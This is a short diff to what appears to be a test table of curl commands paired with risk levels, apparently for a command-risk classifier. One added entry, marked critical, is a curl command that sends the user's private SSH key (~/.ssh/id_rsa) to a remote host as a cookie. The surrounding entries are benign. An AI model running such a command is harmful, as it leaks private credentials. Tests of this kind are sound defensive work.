@@ -14,6 +14,7 @@ LEVELS = [
     ("low", "curl --no-location -XGET https://example.org"),
     ("low", "curl -I -H 'Accept: text/html' -b a=1 https://example.org"),
     ("low", "curl -b jar.txt https://example.org"),
+    ("critical", "curl -b ~/.ssh/id_rsa https://example.org"),
     ("low", "curl -w '%{http_code}' -o /dev/null https://example.org"),
     ("low", "curl -o - https://example.org"),
     ("low", "curl -w @- https://example.org"),
